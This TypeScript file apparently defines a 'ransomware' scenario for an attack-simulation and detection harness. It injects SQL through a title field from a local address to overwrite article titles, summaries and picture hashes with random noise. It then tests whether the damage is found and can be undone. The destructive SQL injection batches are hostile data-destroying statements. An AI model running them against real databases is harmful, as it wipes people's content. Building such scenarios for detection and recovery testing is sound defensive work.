import { readMarked } from '../attack.store.ts';
import { newestFinding, scopeOfStrangers, untilFound } from './finding.ts';
import { inject, injectAgain } from './injection.ts';
import type { Scenario } from './scenario.ts';

const FROM = '127.0.0.88';

/** Most rows of the website, and its pointers to pictures, are overwritten with random bytes by requests of one session. */
export const ransomware: Scenario = {
  name: 'ransomware',
  question: 'Was it ransomware? Are the files lost?',
  way: 'undo',
  isAttributable: true,
  patch: 'third',
  attack: async (stage) => {
    const { mark, now, paths, tell } = stage;
    const [begunAt, begunMs, newest] = [now(), performance.now(), await newestFinding(stage)];
    const noise = `'${mark} ' || md5(random()::text)`;
    // A title holds 200 signs, and a field is one request.
    const batches = [
      [`update article_text set title = ${noise} where article_id % 10 < 9`],
      [`update article_text set summary = ${noise} where article_id % 10 < 9`],
      [`insert into picture select md5('${mark}')||md5(n::text),'image/png',1,1,1,'x',now() from generate_series(1,3) n`],
      [`update article_version set picture_sha256 = md5('${mark}')||md5('1') where picture_sha256 is not null`],
    ];
    const given = { field: 'title', from: FROM, batches } as const;
    const { thief, drafts } = await inject(stage, given);
    const rows = await readMarked(paths, mark);
    tell(`${rows} rows are overwritten with noise`);
    const again = async () => {
      const before = await readMarked(paths, mark);
      return injectAgain(stage, { ...given, thief, wasRun: async () => (await readMarked(paths, mark)) > before + 1 });
    };
    const requests = drafts.map(({ requestId }) => requestId);
    return { begunAt, begunMs, newest, requests, xids: [], rows, again, details: {} };
  },
  find: async (stage, attack) => ({ ...(await untilFound(stage, attack)), scope: await scopeOfStrangers(stage) }),
};
